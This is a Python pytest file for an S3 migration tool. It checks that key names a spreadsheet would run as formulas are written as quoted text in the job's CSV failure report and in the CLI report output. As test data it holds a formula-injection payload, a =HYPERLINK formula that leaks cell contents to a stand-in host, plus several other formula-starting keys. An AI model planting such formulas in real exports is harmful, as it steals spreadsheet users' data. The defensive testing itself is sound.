"""A completion report opened in a spreadsheet shows keys as text, never runs them as formulas.

S3 keys are chosen by whoever wrote the source, so a key can be a formula. The report is
produced as a job produces it, against moto: the job lists the source, the objects are deleted
before they are copied, progress finishes the job, and a coordinator writes the report to S3.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from copier_drain import drain
from moto_helpers import fill, job_message

from coordinator.completion_report import COLUMNS
from progress.refresh import refresh
from s3migrator.aws import Aws
from s3migrator.cli import main
from s3migrator.jobstore import JobStore
from s3migrator.models import ReportLocation
from s3migrator.resources import Resources

REPORTS = ReportLocation(bucket="reports-bucket", prefix="r/")
HYPERLINK = '=HYPERLINK("https://example.invalid/?leak="&A1,"open")'
# Each key that a spreadsheet would read as a formula, a key that already begins with the quote
# (so the report stays exact), and a plain key, with the cell each must be written as.
KEYS = {
    HYPERLINK: "'" + HYPERLINK,
    "+SUM(1)": "'+SUM(1)",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "\t=1": "'\t=1",
    "'quoted": "''quoted",
    "plain/a.txt": "plain/a.txt",
}
MISSING = "The specified key does not exist. (attempts: 1)"


def cells_by_key(text: str) -> dict[str, list[str]]:
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == COLUMNS
    return {row[1]: row for row in rows}


@pytest.fixture
def finished_job(
    aws: Aws,
    s3: Any,
    sqs: Any,
    store: JobStore,
    resources: Resources,
    make_runner: Any,
    make_coordinator: Any,
) -> str:
    """The text of job-1's report, written by a coordinator: every object of the job failed
    (each was deleted after the listing)."""
    fill(s3, "src-bucket", {key: b"x" for key in KEYS})
    s3.create_bucket(Bucket="reports-bucket")
    make_runner().run(job_message("job-1", report=REPORTS))
    for key in KEYS:
        s3.delete_object(Bucket="src-bucket", Key=key)
    drain(aws, resources, store)
    refresh(store, sqs, resources)
    make_coordinator().serve(once=True)
    body = s3.get_object(Bucket="reports-bucket", Key="r/job-1/failures.csv")["Body"]
    return str(body.read().decode())


def test_a_key_that_is_a_formula_is_written_as_text_in_the_report(finished_job: str) -> None:
    # GIVEN the report of a job whose source held a key =HYPERLINK(...) that failed
    rows = cells_by_key(finished_job)
    # THEN its row names the key with a leading quote, the rest of the row as it was
    assert rows["'" + HYPERLINK] == [
        "src-bucket",
        "'" + HYPERLINK,
        "",
        "failed",
        "NoSuchKey",
        "404",
        MISSING,
    ]


def test_every_formula_start_is_neutralised_and_every_key_can_be_read_back(
    finished_job: str,
) -> None:
    # GIVEN the report of a job whose keys begin with each formula character, a quote, or none
    rows = cells_by_key(finished_job)
    # THEN each key is written as its safe cell, and no cell of any row starts a formula
    assert sorted(rows) == sorted(KEYS.values())
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    # AND removing one leading quote gives back exactly the source's keys
    assert {cell.removeprefix("'") for cell in rows} == set(KEYS)


def test_the_report_command_writes_the_same_safe_cells(
    finished_job: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # WHEN the job's report is printed as CSV by `s3migrator report --csv -`
    capsys.readouterr()
    assert main(["report", "job-1", "--csv", "-"]) == 0
    # THEN its rows are the report's rows, keys neutralised alike
    printed = cells_by_key(capsys.readouterr().out)
    assert printed == cells_by_key(finished_job)
